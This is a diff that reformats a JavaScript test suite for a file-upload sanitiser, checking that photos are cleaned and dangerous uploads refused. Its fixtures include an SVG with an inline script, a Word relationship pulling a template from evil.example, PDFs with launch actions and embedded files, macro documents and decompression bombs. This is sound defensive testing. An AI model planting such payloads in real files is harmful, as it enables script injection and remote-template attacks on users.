@@ -11,7 +11,11 @@ const frames = () =>
     .raw()
     .toBuffer()
     .then((frame) => Buffer.concat([frame, Buffer.from(frame.map((byte) => 255 - byte))]))
-    .then((both) => sharp(both, { raw: { width: 60, height: 80, channels: 3, pageHeight: 40 } }).gif().toBuffer())
+    .then((both) =>
+      sharp(both, { raw: { width: 60, height: 80, channels: 3, pageHeight: 40 } })
+        .gif()
+        .toBuffer(),
+    )
 
 test('a photo is turned upright, made smaller, and tells no more where and with what it was taken', async () => {
   const sent = await photo()
@@ -50,7 +54,12 @@ test('what was hidden behind a picture is not kept', async () => {
 test.each([
   ['a PDF', 'the-order.pdf', realPdf, 'application/pdf'],
   ['a PDF with packed objects', 'order.pdf', () => pdf('', '<< /Type /Page >>'), 'application/pdf'],
-  ['a Word document', 'plan.docx', () => docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+  [
+    'a Word document',
+    'plan.docx',
+    () => docx(),
+    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+  ],
   ['an OpenDocument text', 'plan.odt', () => odt(), 'application/vnd.oasis.opendocument.text'],
   ['a table', 'wards.csv', () => Buffer.from('\uFEFFward,count\nUnderhill,4\n'), 'text/csv'],
   [
@@ -71,7 +80,8 @@ test.each([
   expect(received.body.equals(bytes)).toBe(true)
 })
 
-const SVG = '<?xml version="1.0"?><!-- a lamp --><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+const SVG =
+  '<?xml version="1.0"?><!-- a lamp --><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 const EXTERNAL =
   '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
 test.each([
@@ -83,7 +93,12 @@ test.each([
   ['a drawing that can hold a script', 'lamp.svg', () => Buffer.from(SVG), 'svg'],
   ['a drawing under another name', 'lamp.png', () => Buffer.from(SVG), 'svg'],
   ['a photo of an iPhone', 'a.heic', () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), 'heic'],
-  ['a picture that is cut off', 'a.png', async () => (await red.clone().png().toBuffer()).subarray(0, 60), 'unreadable'],
+  [
+    'a picture that is cut off',
+    'a.png',
+    async () => (await red.clone().png().toBuffer()).subarray(0, 60),
+    'unreadable',
+  ],
   ['a picture that moves', 'a.gif', frames, 'animated'],
   ['a picture of 400 million pixels in some thousand bytes', 'a.png', () => pngOf(20_000, 20_000), 'tooManyPixels'],
   ['an old Word document', 'a.doc', () => Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1x', 'latin1'), 'oldOffice'],
@@ -95,22 +110,56 @@ test.each([
   ['a PDF that starts a program', 'a.pdf', () => pdf('/AA << /O << /S /Launch >> >>'), 'script'],
   ['a PDF with a file in it', 'a.pdf', () => pdf('/Names << /EmbeddedFiles 4 0 R >>'), 'embedded'],
   ['a PDF with a password', 'a.pdf', () => pdf('/Encrypt 4 0 R'), 'encrypted'],
-  ['a PDF with objects packed in another way', 'a.pdf', () => Buffer.from(pdf('', '<< >>').toString('latin1').replace('/FlateDecode', '[/ASCIIHexDecode /FlateDecode]'), 'latin1'), 'unseen'],
+  [
+    'a PDF with objects packed in another way',
+    'a.pdf',
+    () =>
+      Buffer.from(
+        pdf('', '<< >>').toString('latin1').replace('/FlateDecode', '[/ASCIIHexDecode /FlateDecode]'),
+        'latin1',
+      ),
+    'unseen',
+  ],
   ['a PDF that swells when it is unpacked', 'a.pdf', () => pdf('', ' '.repeat(70_000_000)), 'bomb'],
-  ['a PDF that is a ZIP file as well', 'a.pdf', async () => Buffer.concat([pdf(), await zipOf({ a: 'b'.repeat(3_000) }), Buffer.alloc(2_000)]), 'mixed'],
+  [
+    'a PDF that is a ZIP file as well',
+    'a.pdf',
+    async () => Buffer.concat([pdf(), await zipOf({ a: 'b'.repeat(3_000) }), Buffer.alloc(2_000)]),
+    'mixed',
+  ],
   ['a Word document with macros', 'a.docx', () => docx({ 'word/vbaProject.bin': 'x' }), 'macros'],
-  ['a Word document that says it has macros', 'a.docx', () => docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'macros'],
+  [
+    'a Word document that says it has macros',
+    'a.docx',
+    () => docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
+    'macros',
+  ],
   ['a workbook with macros from before', 'a.xlsx', () => docx({ 'xl/macrosheets/sheet1.xml': 'x' }), 'macros'],
   ['a Word document with a program in it', 'a.docx', () => docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'embedded'],
-  ['a Word document that fetches its template', 'a.docx', () => docx({ 'word/_rels/settings.xml.rels': EXTERNAL }), 'remote'],
+  [
+    'a Word document that fetches its template',
+    'a.docx',
+    () => docx({ 'word/_rels/settings.xml.rels': EXTERNAL }),
+    'remote',
+  ],
   ['an OpenDocument text with macros', 'a.odt', () => odt({ 'Basic/Standard/Module1.xml': 'x' }), 'macros'],
   ['an OpenDocument text with scripts', 'a.odt', () => odt({ 'Scripts/python/a.py': 'x' }), 'macros'],
   ['an OpenDocument text with a password', 'a.odt', () => odt({}, '<manifest:encryption-data/>'), 'encrypted'],
   ['an archive', 'a.docx', () => zipOf({ 'a.txt': 'x' }), 'unknownKind'],
   ['an archive that says it is a text', 'a.docx', () => odt(), 'otherKind'],
   ['an archive that is cut off', 'a.docx', async () => (await docx()).subarray(0, 120), 'unreadable'],
-  ['an archive that swells when it is unpacked', 'a.docx', () => docx({ 'word/media/a.bmp': Buffer.alloc(90_000_000) }), 'bomb'],
-  ['an archive of many thousand files', 'a.docx', () => docx(Object.fromEntries(Array.from({ length: 4_100 }, (_, index) => [`word/${index}`, 'x']))), 'bomb'],
+  [
+    'an archive that swells when it is unpacked',
+    'a.docx',
+    () => docx({ 'word/media/a.bmp': Buffer.alloc(90_000_000) }),
+    'bomb',
+  ],
+  [
+    'an archive of many thousand files',
+    'a.docx',
+    () => docx(Object.fromEntries(Array.from({ length: 4_100 }, (_, index) => [`word/${index}`, 'x']))),
+    'bomb',
+  ],
   ['a file of 20 MB and one byte', 'a.pdf', () => Buffer.alloc(20_000_001), 'tooLarge'],
 ])('%s is refused, saying why', async (_case, name, make, fault) => {
   await expect(receive(name, await make())).rejects.toMatchObject({ fault })
